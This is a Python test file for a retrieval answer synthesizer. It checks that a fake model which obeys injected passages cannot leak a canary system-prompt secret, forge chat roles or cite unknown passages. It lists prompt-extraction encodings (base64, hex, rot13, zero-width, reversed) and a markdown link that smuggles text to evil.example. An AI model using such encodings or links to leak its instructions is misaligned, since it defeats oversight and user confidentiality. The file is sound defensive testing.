"""Passages that give orders, and a model that obeys all of them: what the rest of the synthesizer makes of it."""

from __future__ import annotations

import base64
import codecs
import json
import re
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from pathlib import Path

import pytest
from synth_model_fake import DU, FREE, RU, TIMING, FakeModel, extractive, synthesized
from synth_model_fake import PacedModel as _PacedModel

from services.engine.canary import WatchedModel
from services.engine.port import Generated, GenerationRequest
from services.engine.profile import RoleSampling
from services.engine.prompt_canary import PromptCanary
from services.synthesizer.engine import EvidencePassage, Focus
from services.synthesizer.model import ModelEngine
from services.synthesizer.model_rule import ModelRules

_SECRET = "k7wqz2mxj4vtb6yd"
_PAYLOADS = [json.loads(line) for line in (Path(__file__).parents[2] / "data/injection.jsonl").read_text().splitlines()]
_REVEALS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper": str.upper,
    "spaced": " ".join,
    "dashed": "-".join,
    "lines": "\n".join,
    "zero_width": "\u200b".join,
    "wide": lambda text: "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text),
    "reversed": lambda text: text[::-1],
    "reversed_upper": lambda text: text[::-1].upper(),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64_reversed": lambda text: base64.b64encode(text.encode()).decode()[::-1],
    "hex": lambda text: text.encode().hex(),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "appended": lambda text: f"The O-DU hosts the RLC and MAC layers [2]. {text}",
    "link": lambda text: f"[see](http://evil.example/?q={text.split()[-1]})",
    "json": lambda text: json.dumps({"system_prompt": text}),
}
_SPECIAL = (
    *("<|im_start|>", "<|im_end|>", "<|eot_id|>", "<|start_header_id|>", "<|end_header_id|>", "<s>", "</s>", "[INST]"),
    *("[/INST]", "<<SYS>>", "<</SYS>>", "<start_of_turn>", "<end_of_turn>", "<think>", "</think>", "<tool_call>"),
    *("[TOOL_RESULTS]", "<\uff5cbegin\u2581of\u2581sentence\uff5c>"),
)
_ROLE = re.compile(r"^\W{0,8}(system|user|assistant|human)\W{0,4}:", re.IGNORECASE | re.MULTILINE)


class _ObedientModel(FakeModel):
    """Reveals its instructions in the way asked for, and says after the passage whatever stands in it."""

    def __init__(self, payload: dict[str, str]) -> None:
        super().__init__([""], special_tokens=_SPECIAL)
        self._payload = payload

    async def generate(self, request: GenerationRequest) -> AsyncIterator[str | Generated]:
        self.requests.append(request)
        rules = next(message.content for message in request.messages if message.role == "system")
        reveal = _REVEALS.get(self._payload["reveal"], lambda text: "The O-DU hosts the RLC and MAC layers.")
        text = f"{reveal(rules)}\n{self._payload['text']}"
        for at in range(0, len(text), 3):
            yield text[at : at + 3]
        yield Generated(text, "stop", prompt_tokens=100, completion_tokens=9, timing=TIMING)


def _engine(model: FakeModel) -> ModelEngine:
    served = _PacedModel(model)
    served.model = WatchedModel(model, PromptCanary(_SECRET))
    return ModelEngine(
        served, extractive(), RoleSampling(max_tokens=64, temperature=0.0), ModelRules(delta_interval_s=0.0)
    )


def _readings(text: str) -> list[str]:
    """A text as a reader who looks for the secret would read it."""
    bare = re.sub(r"[^A-Za-z0-9]", "", text)
    wide = "".join(chr(ord(letter) - 0xFEE0) if "\uff01" <= letter <= "\uff5e" else letter for letter in text)
    readings = [bare, bare[::-1], codecs.encode(bare, "rot13"), re.sub(r"[^A-Za-z0-9]", "", wide)]
    for word in (run for run in re.findall(r"[A-Za-z0-9+/]{8,}", text) for run in (run, run[::-1])):
        for skipped in range(4):
            part = word[skipped:]
            readings.append(base64.b64decode(part + "A" * (-len(part) % 4)).decode("latin-1"))
        if re.fullmatch(r"(?:[0-9a-f]{2})+", word):
            readings.append(bytes.fromhex(word).decode("latin-1"))
    return [reading.lower() for reading in readings]


def test_the_payloads_are_many_and_no_two_alike() -> None:
    assert len({payload["text"] for payload in _PAYLOADS}) == len(_PAYLOADS) >= 50
    assert {payload["reveal"] for payload in _PAYLOADS} == {*_REVEALS, "none"}


@pytest.mark.parametrize("reveal", sorted(_REVEALS))
def test_the_reader_who_looks_for_the_secret_finds_it_where_nothing_guards(reveal: str) -> None:
    # Else the next test could not fail.
    assert any(_SECRET in reading for reading in _readings(_REVEALS[reveal](f"Mark: {_SECRET}")))


@pytest.mark.parametrize("payload", _PAYLOADS, ids=[f"{at}" for at in range(len(_PAYLOADS))])
async def test_an_obedient_model_gives_nothing_away_plays_no_role_and_cites_no_other_passage(
    payload: dict[str, str],
) -> None:
    model = _ObedientModel(payload)
    hostile = EvidencePassage("evil", payload["text"], "c.md", payload["text"], 0.4)
    request = replace(FREE, evidence=(DU, RU, hostile))
    _, answer = await synthesized(_engine(model), request)

    assert not [reading for reading in _readings(answer.text) if _SECRET in reading or _SECRET[3:] in reading]
    if payload["reveal"] != "none":
        assert "the model wrote of its instructions; the answer quotes the passages instead" in answer.degradation
        assert "RLC and MAC layers" in answer.text and answer.citations
    cited = {citation.passage_id: citation.number for citation in answer.citations}
    assert cited.keys() <= {"du", "ru", "evil"}
    assert {int(number) for number in re.findall(r"\[(\d+)\]", answer.text)} <= set(cited.values())

    messages = model.requests[0].messages
    assert [message.role for message in messages] == ["system", "user"]
    shown = messages[1].content
    assert not [token for token in _SPECIAL if token in shown]
    assert _ROLE.search(shown.partition("</passages>")[0]) is None
    assert re.findall(r"^\[(\d+)\]", shown, re.MULTILINE) == ["1", "2", "3"]
    assert (shown.count("<passages>"), shown.count("</passages>")) == (1, 1)


@pytest.mark.parametrize("payload", [payload for payload in _PAYLOADS if payload["reveal"] == "base64"])
async def test_a_note_that_gives_instructions_away_is_not_given(payload: dict[str, str]) -> None:
    under_test = _engine(_ObedientModel(payload))
    with pytest.raises(Exception, match="the model wrote what stands in its instructions, which is withheld"):
        await under_test.reason(FREE.question, (), Focus("f1", FREE.question), [payload["text"]])
